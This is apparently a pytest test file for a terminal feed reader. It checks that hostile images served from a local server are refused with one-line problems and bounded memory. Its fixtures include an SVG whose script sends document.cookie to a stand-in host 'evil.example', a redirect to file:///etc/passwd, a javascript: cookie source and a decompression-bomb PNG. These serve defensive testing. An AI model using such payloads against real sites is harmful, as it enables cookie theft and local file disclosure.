"""Hostile and broken pictures, served by a real HTTP server on 127.0.0.1.

Each ends as a one-line problem (what the reader shows with the alt text, and one log line);
the article is stored and opens; nothing stored before is lost; memory stays bounded (the
peak RSS of a refresh in a subprocess, against the same refresh without the pictures).
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests import picturemaker as pm
from tests.httpserver import LocalServer
from tests.integration.site import Item, rss
from tui_reader.core.config import Config
from tui_reader.core.library import Library

REPO = Path(__file__).resolve().parent.parent.parent
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<image href="https://evil.example/track.png"/></svg>'
)


def hostile(server: LocalServer) -> dict[str, tuple[str, str]]:
    """path -> (alt text, words the problem must contain); the server serves them all."""
    server.add("/h/bomb.png", pm.png_declaring(40000, 40000), content_type="image/png")
    server.add("/h/script.svg", SVG, content_type="image/svg+xml")
    server.add(
        "/h/page.png", b"<!DOCTYPE html><html><body>Login</body></html>", content_type="image/png"
    )
    server.add("/h/cut.jpg", pm.jpeg(600, 400)[:3000], content_type="image/jpeg")
    server.add_huge("/h/huge.png", 50 * 1024 * 1024, content_type="image/png")
    server.add_slow("/h/slow.png", pm.png(), 1, content_type="image/png")
    server.redirect("/h/file.png", "file:///etc/passwd")
    server.add("/h/frames.gif", pm.many_frame_gif(10_000), content_type="image/gif")
    server.add("/h/cmyk.jpg", pm.jpeg(300, 200, mode="CMYK"), content_type="image/jpeg")
    return {
        "/h/bomb.png": ("A bomb", "too many pixels"),
        "/h/script.svg": ("A drawing", "SVG"),
        "/h/page.png": ("A login page", "HTML page"),
        "/h/cut.jpg": ("A cut photo", "truncated"),
        "/h/huge.png": ("A huge picture", "larger than 10 MB"),
        "/h/slow.png": ("A slow picture", "timed out"),
        "/h/file.png": ("A local file", "http"),
    }


def page_of(server: LocalServer, paths: list[str], alts: dict[str, str]) -> bytes:
    figures = [(server.url(p) if p.startswith("/") else p, alts.get(p, p)) for p in paths]
    return pm.story_page("Hostile pictures", figures)


def serve(server: LocalServer, name: str, body: bytes) -> str:
    server.add(f"/{name}.html", body, content_type="text/html; charset=utf-8")
    return server.url(f"/{name}.html")


def feed(server: LocalServer, links: list[str]) -> str:
    items = [Item(guid=link, title=f"Story {n}", link=link) for n, link in enumerate(links)]
    server.add("/feed.xml", rss("Hostile", items), content_type="application/rss+xml")
    return server.url("/feed.xml")


def config() -> Config:
    return Config(retries=0, images_deadline=2.0, images_max_mb=10)


async def test_each_hostile_picture_ends_as_a_one_line_problem(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="tui_reader")
    with LocalServer() as server:
        cases = hostile(server)
        server.add("/h/good.png", pm.png(70, 50), content_type="image/png")
        paths = [*cases, "/h/frames.gif", "/h/cmyk.jpg", "/h/good.png"]
        alts = {p: alt for p, (alt, _) in cases.items()}
        link = serve(server, "story", page_of(server, paths, alts))
        lib = Library.open(tmp_path / "data", config=config())
        # Something stored before the hostile refresh, which must survive it.
        before = await lib.add(serve(server, "before", pm.story_page("Before", [])))
        feed_id, _ = lib.store.add_feed(feed(server, [link]))
        try:
            report = await lib.refresh()
        finally:
            await lib.aclose()
        url = {path: server.url(path) for path in paths}
    assert report.new_articles == 1 and report.pages_fetched == 1 and report.failures == ()
    [summary] = lib.articles(feed_id=feed_id)
    stored = lib.article(summary.id)
    assert "The tide came in" in stored.article.text  # the article opens
    figures = {b.src: b for b in stored.article.blocks if b.kind == "figure"}
    for path, (alt, words) in cases.items():
        src = url[path]
        assert figures[src].alt == alt  # what the reader shows instead
        assert lib.picture(summary.id, src) is None
        problem = lib.picture_problem(summary.id, src)
        assert problem is not None and words in problem, (path, problem)
        assert "\n" not in problem and "\x1b" not in problem
        # One log line for it, with the reason.
        lines = [r.getMessage() for r in caplog.records if src in r.getMessage()]
        assert len(lines) == 1 and problem in lines[0], (path, lines)
    # The 10,000-frame GIF keeps its first frame; the CMYK photo is converted.
    frames = lib.picture(summary.id, url["/h/frames.gif"])
    assert frames is not None and (frames.width, frames.height) == (64, 64)
    cmyk = lib.picture(summary.id, url["/h/cmyk.jpg"])
    assert cmyk is not None and cmyk.path.suffix == ".jpg"
    assert lib.picture(summary.id, url["/h/good.png"]) is not None
    # Nothing already stored was lost.
    assert lib.article(before.article_id or 0).summary.title == "Before"
    assert lib.store.integrity_check() == "ok"
    lib.close()


async def test_sources_that_are_not_http_are_refused_with_their_alt_text(tmp_path: Path) -> None:
    with LocalServer() as server:
        link = serve(
            server,
            "story",
            pm.story_page(
                "Sources",
                [
                    ("javascript:alert(document.cookie)", "A script"),
                    ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==", "An inline picture"),
                ],
            ),
        )
        lib = Library.open(tmp_path / "data", config=config())
        try:
            result = await lib.add(link)
        finally:
            await lib.aclose()
        paths = {r.path for r in server.requests}
    assert paths == {"/story.html"}  # nothing else was asked for
    assert result.article_id is not None
    article = lib.article(result.article_id).article
    figures = [b for b in article.blocks if b.kind == "figure"]
    assert [(f.src, f.alt) for f in figures] == [(None, "A script"), (None, "An inline picture")]
    assert "[image: A script]" in article.markdown.replace("\\", "")
    lib.close()


async def test_a_page_of_500_pictures_keeps_the_first_40(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="tui_reader")
    with LocalServer() as server:
        small = pm.png(20, 20)
        for n in range(500):
            server.add(f"/many/{n}.png", small, content_type="image/png")
        figures = [(server.url(f"/many/{n}.png"), f"Picture {n}") for n in range(500)]
        link = serve(server, "story", pm.story_page("Many", figures))
        lib = Library.open(tmp_path / "data", config=config())
        try:
            result = await lib.add(link)
        finally:
            await lib.aclose()
        fetched = [r for r in server.requests if r.path.startswith("/many/")]
    assert result.article_id is not None
    assert len(fetched) == 40
    kept = [lib.picture(result.article_id, src) for src, _ in figures]
    assert all(p is not None for p in kept[:40]) and all(p is None for p in kept[40:])
    problem = lib.picture_problem(result.article_id, figures[450][0])
    assert problem == "not fetched: the article has more than 40 pictures"
    capped = [r for r in caplog.records if "not fetched" in r.getMessage()]
    assert len(capped) == 1 and "460 pictures" in capped[0].getMessage()
    lib.close()


PEAK_SCRIPT = """
import asyncio, json, resource, sys
from tui_reader.core.config import Config
from tui_reader.core.library import Library
from tui_reader.core.storage.pictures import picture_rows

async def main():
    lib = Library.open(sys.argv[1], config=Config(retries=0, images_deadline=2.0))
    try:
        result = await lib.add(sys.argv[2])
    finally:
        await lib.aclose()
    rows = picture_rows(lib.store, result.article_id)
    lib.close()
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
    stored = sum(1 for row in rows if row.hash)
    print(json.dumps({"peak_kib": peak, "kind": result.kind, "rows": len(rows), "stored": stored}))

asyncio.run(main())
"""


def _peak(tmp: Path, url: str) -> tuple[int, int, int]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("TUI_READER_")}
    env["TUI_READER_CONFIG_DIR"] = str(tmp / "config")
    out = subprocess.run(
        [sys.executable, "-c", PEAK_SCRIPT, str(tmp / "data"), url],
        capture_output=True,
        text=True,
        env=env,
        cwd=REPO,
        timeout=120,
        check=True,
    )
    answer = json.loads(out.stdout.strip().splitlines()[-1])
    assert answer["kind"] == "saved"
    return int(answer["peak_kib"]), int(answer["rows"]), int(answer["stored"])


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss in KiB is Linux's")
async def test_hostile_pictures_keep_memory_bounded(tmp_path: Path) -> None:
    with LocalServer() as server:
        cases = hostile(server)
        paths = [p for p in cases if p != "/h/slow.png"] + ["/h/frames.gif", "/h/cmyk.jpg"]
        with_pictures = serve(server, "with", page_of(server, paths, {}))
        without = serve(server, "without", page_of(server, [], {}))
        # The server runs in this process's threads: the subprocesses measure the reader only.
        plain, _, _ = await asyncio.to_thread(_peak, tmp_path / "a", without)
        loaded, rows, stored = await asyncio.to_thread(_peak, tmp_path / "b", with_pictures)
    # Every picture was tried; the GIF's first frame and the CMYK photo were kept.
    assert (rows, stored) == (len(paths), 2)
    # A decoded 40000x40000 picture alone would be 4.8 GB, the 50 MB body 50 MB: what the
    # hostile pictures add stays within a few of the 10 MB a picture may weigh.
    extra_mib = (loaded - plain) / 1024
    print(f"peak RSS: {plain / 1024:.0f} MiB without pictures, {loaded / 1024:.0f} MiB with")
    assert extra_mib < 80, (plain, loaded)
